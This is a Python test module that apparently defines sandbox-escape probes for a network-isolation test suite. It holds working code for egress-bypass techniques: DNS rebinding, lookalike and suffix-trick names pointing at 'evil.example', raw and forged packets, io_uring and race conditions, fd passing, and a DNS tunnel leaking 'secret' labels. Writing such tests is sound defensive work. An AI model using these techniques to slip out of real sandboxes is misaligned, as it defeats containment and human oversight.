"""Programs that try to get out, and where they arrive when nothing holds them.

A probe names its targets: (address, port; None is any). The names in capitals are defined by
`tests.internet.jobs.names`. x86_64 system call numbers.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from tests.internet.addresses import LINK_LOCAL, ZONE, Addresses

HEAD = """
import ctypes, os, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def quiet(act, *args, **named):
    try:
        return act(*args, **named)
    except (OSError, EOFError) as error:
        print(getattr(act, "__name__", act), args[:2], error, flush=True)
def tcp(host, port, family=0, kind=socket.SOCK_STREAM, protocol=0, timeout=2):
    family = family or (socket.AF_INET6 if ":" in host else socket.AF_INET)
    s = socket.socket(family, kind, protocol)
    s.settimeout(timeout)
    s.connect((host, port))
    quiet(s.sendall, b"GET / HTTP/1.0\\r\\n\\r\\n")
    return s
def name4(host, port):
    return struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)
def udp(host, port, family=0, protocol=0, data=b"secret"):
    family = family or (socket.AF_INET6 if ":" in host else socket.AF_INET)
    s = socket.socket(family, socket.SOCK_DGRAM, protocol)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(data, (host, port))
    return s
"""
ALLOW = (f"web.{ZONE}:80", f"*.wild.{ZONE}:80", "SERVICE4/32:8080-8090")
"""What a sandbox is granted while it is attacked; SERVICE4 stands for the address."""
Targets = Callable[[Addresses], list[tuple[str, int | None]]]


@dataclass(frozen=True)
class Probe:
    code: str
    targets: Targets
    allow: tuple[str, ...] = ALLOW
    forged: bool = False
    """It makes up the source address."""


def at(*where: tuple[str, int | None]) -> Targets:
    """Targets by the names of properties of Addresses, or as they are."""
    return lambda here: [(getattr(here, name, name), port) for name, port in where]


OTHER: Targets = at(("other4", None), ("other6", None))
_URING = """
def io_uring(fd, address):
    import mmap
    params = (ctypes.c_char * 120)()
    ring = libc.syscall(425, 4, params)
    if ring < 0: return print("io_uring", ctypes.get_errno())
    word = lambda at: struct.unpack_from("<I", params, at)[0]
    sq = mmap.mmap(ring, word(40 + 24) + 4 * word(0), offset=0)
    sqes = mmap.mmap(ring, 64 * word(0), offset=0x10000000)
    buffer = ctypes.create_string_buffer(address, 16)
    sqes[:64] = struct.pack("<BBHiQQ", 16, 0, 0, fd, 16, ctypes.addressof(buffer)).ljust(64, b"\\0")
    tail = word(40 + 4)
    sq[word(40 + 24):word(40 + 24) + 4] = bytes(4)
    sq[tail:tail + 4] = struct.pack("<I", 1)
    print("enter", libc.syscall(426, ring, 1, 1, 1, None, 0))
"""
_RACE = """
from ctypes import c_char, memmove
good, bad = name4(SERVICE4, 8085), name4(OTHER4, 80)
buffer = (c_char * 16).from_buffer_copy(good)
stop = False
fds = [socket.socket(), socket.socket(2, 2), socket.socket(1)]
def flip():
    while not stop:
        memmove(buffer, bad, 16); memmove(buffer, good, 16)
def swap():
    while not stop:
        for each in fds: quiet(os.dup2, each.fileno(), 90)
"""
_RACE_RUN = """
threads = [threading.Thread(target=each) for each in ({threads})]
os.dup2(fds[0].fileno(), 90)
for each in threads: each.start()
end = time.monotonic() + 1.5
while time.monotonic() < end:
    s = fds[0] = socket.socket()
    libc.connect({fd}, buffer, 16)
    os.dup2(s.fileno(), 90)
stop = True
"""
_DNS = """
import random
def question(name, kind):
    head = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    return head + labels + b"\\0" + struct.pack(">HH", kind, 1)
def nameservers():
    return [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
def by_udp(server, name, kind):
    with socket.socket(10 if ":" in server else 2, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3)
        s.sendto(question(name, kind), (server, 53))
        return s.recv(4096)
def by_tcp(server, name, kind):
    with socket.create_connection((server, 53), 2) as s:
        wire = question(name, kind)
        s.sendall(len(wire).to_bytes(2, "big") + wire)
        return s.recv(4096)
"""

PROBES: dict[str, Probe] = {
    "ip_literal": Probe("quiet(tcp, OTHER4, 80)", at(("other4", 80))),
    "ip_literal6": Probe("quiet(tcp, OTHER6, 80)", at(("other6", 80))),
    "literal_of_a_granted_name": Probe(
        "quiet(tcp, WEB4, 80); quiet(tcp, WEB6, 80)", at(("web4", 80), ("web6", 80)), ALLOW[:1]
    ),
    "wrong_port": Probe(
        "quiet(socket.create_connection, (WEB, 81), 2); quiet(tcp, SERVICE4, 80)",
        lambda here: [(here.web6, 81), (here.public4(12), 80)],
    ),
    "next_port": Probe(
        "quiet(tcp, SERVICE4, 8091); quiet(tcp, SERVICE4, 8079)",
        lambda here: [(here.public4(12), 8091), (here.public4(12), 8079)],
    ),
    "suffix_tricks": Probe(
        """
for name in (f"{WEB}.evil.example", f"xweb.{ZONE}", f"evilweb.{ZONE}", ZONE, OTHER,
             f"a.wild.{ZONE}.evil.example", f"wild.{ZONE}", f"xwild.{ZONE}"):
    for family in (socket.AF_INET, socket.AF_INET6):
        quiet(lambda: tcp(socket.getaddrinfo(name, 80, family)[0][4][0], 80))
""",
        OTHER,
    ),
    "lookalikes": Probe(
        """
for name in ("w\\u0435b", "we\\u0253", "\\u24b2eb\\u0301"):
    ascii = name.encode("idna").decode()
    quiet(lambda: tcp(socket.getaddrinfo(f"{ascii}.{ZONE}", 80, 2)[0][4][0], 80))
quiet(lambda: tcp(socket.getaddrinfo(f"xn--wb-nlc.{ZONE}", 80, 2)[0][4][0], 80))
""",
        at(("other4", 80)),
    ),
    "rebinding": Probe(
        """
for _ in range(2):
    for family in (socket.AF_INET, socket.AF_INET6):
        found = quiet(socket.getaddrinfo, f"rebind.{ZONE}", 80, family)
        found and quiet(tcp, found[0][4][0], 80)
    time.sleep(1.1)  # the broker keeps an answer for a second at least
    found and quiet(tcp, found[0][4][0], 80)
""",
        at(("inner4", None), ("inner6", None)),
        (f"rebind.{ZONE}",),
    ),
    "cname_to_private": Probe(
        """
for family in (socket.AF_INET, socket.AF_INET6):
    quiet(lambda: tcp(socket.getaddrinfo(f"toinner.{ZONE}", 80, family)[0][4][0], 80))
""",
        at(("inner4", None), ("inner6", None)),
        (f"toinner.{ZONE}",),
    ),
    "private_by_name_and_all_addresses": Probe(
        """
for family in (socket.AF_INET, socket.AF_INET6):
    quiet(lambda: tcp(socket.getaddrinfo(f"inner.{ZONE}", 80, family)[0][4][0], 80))
quiet(tcp, INNER4, 80); quiet(tcp, INNER6, 80)
""",
        at(("inner4", None), ("inner6", None)),
        (f"inner.{ZONE}", "0.0.0.0/0", "::/0"),
    ),
    "mapped_answer": Probe(
        "quiet(lambda: tcp(socket.getaddrinfo(f'mapped.{ZONE}', 80, 10)[0][4][0], 80))",
        at(("inner4", None)),
        (f"mapped.{ZONE}", "::/0"),
    ),
    "cname_of_a_granted_name": Probe(
        """
quiet(socket.getaddrinfo, f"toother.{ZONE}", 80)
quiet(lambda: tcp(socket.getaddrinfo(OTHER, 80, 2)[0][4][0], 80))
quiet(tcp, OTHER6, 80)
""",
        OTHER,
        (f"toother.{ZONE}",),
    ),
    "mapped_literal": Probe(
        "quiet(tcp, '::ffff:' + OTHER4, 80); quiet(tcp, '::ffff:' + INNER4, 80)",
        at(("other4", 80), ("inner4", 80)),
    ),
    "executor_address": Probe(
        "for host in (EXECUTOR4, EXECUTOR6): quiet(tcp, host, HOST_PORT)\nquiet(tcp, OTHER4, 80)",
        at(("other4", 80)),
    ),
    "link_local": Probe(
        f"""
for device in ("eth0", "lo"):
    def scoped():
        s = socket.socket(socket.AF_INET6)
        s.settimeout(2)
        s.connect(({LINK_LOCAL["servers"]!r}, 80, 0, socket.if_nametoindex(device)))
    quiet(scoped)
quiet(tcp, {LINK_LOCAL["servers"]!r}, 80)
quiet(tcp, "169.254.77.%d" % SLOT, 80)
""",
        lambda here: [(LINK_LOCAL["servers"], 80), (here.special["linklocal"], 80)],
        (*ALLOW, "0.0.0.0/0", "::/0"),
    ),
    "multicast": Probe(
        """
for host in ("224.0.0.251", "239.255.255.250"):
    quiet(udp, host, 5353); quiet(tcp, host, 80, timeout=0.2)
for host in ("ff02::fb", "ff05::1:3"):
    for device in ("eth0", "lo"):
        def send():
            s = socket.socket(10, 2)
            s.setsockopt(41, 17, socket.if_nametoindex(device))
            s.sendto(b"x", (host, 5353))
        quiet(send)
""",
        at(("224.0.0.251", 5353), ("239.255.255.250", 5353), ("ff02::fb", 5353)),
        (*ALLOW, "0.0.0.0/0", "::/0"),
    ),
    "broadcast": Probe(
        "quiet(udp, '255.255.255.255', 7); quiet(udp, BROADCAST4, 7)",
        lambda here: [("255.255.255.255", 7), (here.public4(255), 7)],
    ),
    "udp": Probe(
        """
for host in (OTHER4, OTHER6, SERVICE4):
    quiet(udp, host, 8084)
def connected(host):
    s = socket.socket(10 if ":" in host else 2, 2)
    s.connect((host, 8086)); s.send(b"secret")
for host in (OTHER4, OTHER6, SERVICE4):
    quiet(connected, host)
s = socket.socket(2, 2)
quiet(s.sendmsg, [b"secret"], [], 0, (OTHER4, 8087))
""",
        lambda here: [
            (here.other4, 8084),
            (here.other6, 8084),
            (here.public4(12), 8084),
            (here.other4, 8086),
            (here.public4(12), 8086),
            (here.other4, 8087),
        ],
    ),
    "sendmmsg": Probe(
        """
s = socket.socket(2, 2)
kept = []
def place(data):
    kept.append(ctypes.create_string_buffer(data, len(data)))
    return ctypes.addressof(kept[-1])
iov = place(struct.pack("<QQ", place(b"secret"), 6))
msg = struct.pack("<QIxxxxQQQQiIIxxxx", place(name4(OTHER4, 8088)), 16, iov, 1, 0, 0, 0, 0, 0)
both = ctypes.c_void_p(place(msg * 2))
print(libc.sendmmsg(s.fileno(), both, 2, 0), ctypes.get_errno())
""",
        at(("other4", 8088)),
    ),
    "udplite": Probe("quiet(udp, OTHER4, 8089, protocol=136)", at(("other4", 8089))),
    "sctp": Probe(
        "quiet(tcp, OTHER4, 80, protocol=132)\n"
        "s = quiet(socket.socket, 2, 3, 132)\n"
        "s and quiet(s.sendto, struct.pack('>HHII', 9, 80, 0, 0), (OTHER4, 0))",
        at(("other4", 80)),
    ),
    "mptcp": Probe("quiet(tcp, OTHER4, 80, protocol=262)", at(("other4", 80))),
    "icmp_raw": Probe(
        """
s = quiet(socket.socket, 2, 3, 1)
s and quiet(s.sendto, struct.pack(">BBHHH", 8, 0, 0xf7fe, 0, 1), (OTHER4, 0))
s = quiet(socket.socket, 10, 3, 58)
s and quiet(s.sendto, struct.pack(">BBHHH", 128, 0, 0, 0, 1), (OTHER6, 0))
""",
        OTHER,
    ),
    "icmp_ping": Probe(
        "s = quiet(socket.socket, 2, 2, 1)\n"
        "s and quiet(s.sendto, struct.pack('>BBHHH', 8, 0, 0xf7ff, 0, 0), (OTHER4, 0))",
        at(("other4", None)),
    ),
    "raw_tcp": Probe(
        """
s = quiet(socket.socket, 2, 3, 6)
s and quiet(s.sendto, struct.pack(">HHIIBBHHH", 9, 80, 0, 0, 80, 2, 1024, 0, 0), (OTHER4, 0))
s = quiet(socket.socket, 2, 3, 255)
""",
        at(("other4", 80)),
    ),
    "packet_socket": Probe(
        """
def send(device):
    s = socket.socket(17, 2, socket.htons(0x800))
    def head(checksum):
        ends = socket.inet_aton(PLAIN4), socket.inet_aton(OTHER4)
        return struct.pack(">BBHHHBBH4s4s", 69, 0, 28, 0, 0, 9, 17, checksum, *ends)
    total = sum(struct.unpack(">10H", head(0)))
    head = head(~((total & 0xffff) + (total >> 16)) & 0xffff)
    s.sendto(head + struct.pack(">HHHH", 9, 8092, 8, 0), (device, 0x800, 0, 0, b"\\xff" * 6))
quiet(send, "eth0"); quiet(send, "lo")
""",
        at(("other4", 8092)),
        forged=True,
    ),
    "marked": Probe(
        """
for level, option, value in ((1, 36, 7), (1, 25, b"eth0"), (1, 25, b"lo"), (0, 15, 1), (0, 19, 1)):
    s = socket.socket()
    quiet(s.setsockopt, level, option, value)
    s.settimeout(1)
    quiet(s.connect, (OTHER4, 80))
""",
        at(("other4", 80)),
    ),
    "fast_open": Probe(
        """
s = socket.socket()
quiet(s.sendto, b"GET / HTTP/1.0\\r\\n\\r\\n", 0x20000000, (OTHER4, 80))
s = socket.socket()
quiet(s.sendmsg, [b"secret"], [], 0x20000000, (OTHER4, 81))
s = socket.socket()
quiet(s.setsockopt, 6, 30, 1)
quiet(s.connect, (OTHER4, 8079)); quiet(s.send, b"secret")
s = socket.socket(10)
quiet(s.sendto, b"secret", 0x20000000, (OTHER6, 80))
""",
        at(("other4", 80), ("other4", 81), ("other4", 8079), ("other6", 80)),
    ),
    "unspec_then_again": Probe(
        """
s = socket.socket()
quiet(s.connect, (SERVICE4, 8085))
print(libc.connect(s.fileno(), bytes(16), 16), ctypes.get_errno())
quiet(s.connect, (OTHER4, 80))
s = socket.socket()
quiet(s.connect, ("127.0.0.1", 9))
print(libc.connect(s.fileno(), bytes(16), 16), ctypes.get_errno())
quiet(s.connect, (OTHER4, 80))
""",
        at(("other4", 80)),
    ),
    "nonblocking": Probe(
        """
import select
for host in (OTHER4, OTHER6, SERVICE4):
    s = socket.socket(10 if ":" in host else 2)
    s.setblocking(False)
    print(s.connect_ex((host, 80)))
    select.select([], [s], [], 1)
    quiet(s.send, b"secret")
""",
        lambda here: [(here.other4, 80), (here.other6, 80), (here.public4(12), 80)],
    ),
    "address_race": Probe(
        _RACE + _RACE_RUN.format(threads="flip, flip", fd="s.fileno()"), at(("other4", 80))
    ),
    "descriptor_race": Probe(
        _RACE + _RACE_RUN.format(threads="flip, swap", fd="90"), at(("other4", 80))
    ),
    "io_uring": Probe(
        _URING + "s = socket.socket(); quiet(io_uring, s.fileno(), name4(OTHER4, 80))",
        at(("other4", 80)),
    ),
    "passed_between_processes": Probe(
        """
import array
left, right = socket.socketpair()
if os.fork() == 0:
    s = socket.socket()
    left.sendmsg([b"x"], [(1, 1, array.array("i", [s.fileno()]))])
    time.sleep(0.5)
    os._exit(0)
_, found, _, _ = right.recvmsg(1, 64)
fd = array.array("i", found[0][2][:4])[0]
s = socket.socket(fileno=fd)
s.settimeout(2)
quiet(s.connect, (OTHER4, 80))
if os.fork() == 0:
    quiet(tcp, OTHER4, 81)
    os._exit(0)
os.wait(); os.wait()
""",
        at(("other4", 80), ("other4", 81)),
    ),
    "redirects": Probe(
        """
import urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
for goal in (f"http://{OTHER}/", f"http://{OTHER4}/", f"http://[{OTHER6}]/", f"http://{INNER4}/",
             f"http://127.0.0.1:{HOST_PORT}/"):
    quiet(opener.open, f"http://{WEB}/redirect?to={goal}", timeout=3)
""",
        at(("other4", 80), ("other6", 80), ("inner4", 80)),
    ),
    "proxy_words": Probe(
        """
for line in (f"CONNECT {OTHER4}:80 HTTP/1.1", f"GET http://{OTHER4}/ HTTP/1.1"):
    for port in (80,):
        s = quiet(socket.create_connection, (WEB, port), 2)
        s and quiet(s.sendall, f"{line}\\r\\nHost: {OTHER4}\\r\\n\\r\\n".encode())
        s and quiet(s.recv, 100)
quiet(tcp, OTHER4, 80)
""",
        at(("other4", 80)),
    ),
    "synthetic_addresses": Probe(
        """
quiet(socket.getaddrinfo, WEB, 80)
found = set()
for family in (2, 10):
    try: found |= {each[4][0] for each in socket.getaddrinfo(WEB, 80, family)}
    except OSError: pass
for host in sorted(found):
    quiet(tcp, host, 81)
    quiet(udp, host, 8085)
for last in range(0, 40):
    quiet(tcp, "198.18.0.%d" % last, 81, timeout=0.05)
""",
        lambda here: [(here.web4, 81), (here.web6, 81), (here.web4, 8085)],
    ),
    "unroutable_forms": Probe(
        """
number = struct.unpack(">I", socket.inet_aton(OTHER4))[0]
for host in ("0x%08x" % number, str(number), "11.77.%d.013" % SLOT):
    quiet(lambda: tcp(socket.gethostbyname(host), 80))
""",
        at(("other4", 80)),
    ),
}

TUNNEL = (
    _DNS
    + """
for server in [*nameservers(), RESOLVER4, RESOLVER6]:
    for kind in (1, 28, 16, 10, 15, 33, 5, 255, 65, 12):
        for base in (ZONE, WEB, "evil.example"):
            name = f"secret-{kind}.{base}"
            for way in (by_udp, by_tcp):
                quiet(way, server, name, kind)
"""
)
